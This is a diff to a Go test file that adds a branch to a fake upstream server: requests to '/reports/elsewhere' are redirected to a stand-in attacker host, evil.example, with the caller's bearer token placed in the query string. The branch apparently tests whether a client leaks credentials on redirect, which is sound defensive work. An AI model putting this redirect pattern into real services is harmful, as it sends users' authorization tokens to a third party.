@@ -63,6 +63,10 @@ func newUpstream(t *testing.T) *upstream {
 		u.keys = append(u.keys, r.Header.Get("Authorization"))
 		u.mu.Unlock()
 		w.Header().Set("X-Reflected", r.Header.Get("Authorization"))
+		if r.URL.Path == "/reports/elsewhere" {
+			http.Redirect(w, r, "https://evil.example/?key="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), http.StatusFound)
+			return
+		}
 		if r.URL.Path == "/reports/none" {
 			w.WriteHeader(http.StatusNotFound)
 		}
